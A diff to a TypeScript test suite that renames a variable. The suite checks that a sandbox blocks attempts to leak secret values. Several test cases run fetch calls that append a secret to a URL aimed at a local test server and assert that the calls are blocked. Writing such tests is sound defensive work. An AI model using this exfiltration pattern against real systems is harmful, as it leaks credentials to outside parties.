@@ -12,12 +12,12 @@ describe("secrets in the output of a run", () => {
   let service: TestService;
   let server: Server;
   let url: string;
-  let asked: { url: string; referer?: string }[] = [];
+  let receivedRequests: { url: string; referer?: string }[] = [];
   let made = 0;
 
   before(async () => {
     server = createServer(({ url: path, headers }, response) => {
-      asked.push({ url: path!, ...(headers.referer && { referer: headers.referer }) });
+      receivedRequests.push({ url: path!, ...(headers.referer && { referer: headers.referer }) });
       response.setHeader("Access-Control-Allow-Origin", "*").end("here");
     });
     await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
@@ -29,7 +29,7 @@ describe("secrets in the output of a run", () => {
     server.close();
   });
   beforeEach(() => {
-    asked = [];
+    receivedRequests = [];
   });
   afterEach(async () => {
     const { settingsStatus: found } = (await service.graphql("{ settingsStatus(appId: 1) { key } }")).data;
@@ -83,7 +83,7 @@ describe("secrets in the output of a run", () => {
         `return fetch('${url}/x?k=' + encodeURIComponent(${key}.slice(0, 1e5))).catch(() => 'blocked')`,
       );
       if (value.length < 1e5) expect(sent.body.result, "an address").to.equal("blocked");
-      expect(asked).to.deep.equal([]);
+      expect(receivedRequests).to.deep.equal([]);
     });
   }
 
@@ -110,7 +110,7 @@ describe("secrets in the output of a run", () => {
       return told;`);
     expect(body.result[0]).to.equal("blocked");
     expect(body.result[1]).to.equal(200);
-    for (const { referer = "" } of asked) expect(referer).to.not.include("secret");
+    for (const { referer = "" } of receivedRequests) expect(referer).to.not.include("secret");
   });
 
   describe("a value that changes while a run executes", () => {
@@ -134,7 +134,7 @@ describe("secrets in the output of a run", () => {
           return fetch('${url}/?k=' + encodeURIComponent(await read())).catch(() => 'blocked')`),
       );
       expect(sent.body.result).to.equal("blocked");
-      expect(asked).to.deep.equal([]);
+      expect(receivedRequests).to.deep.equal([]);
     });
 
     it("does not leave either if it was set and removed again in the meantime, nor does the first value", async () => {
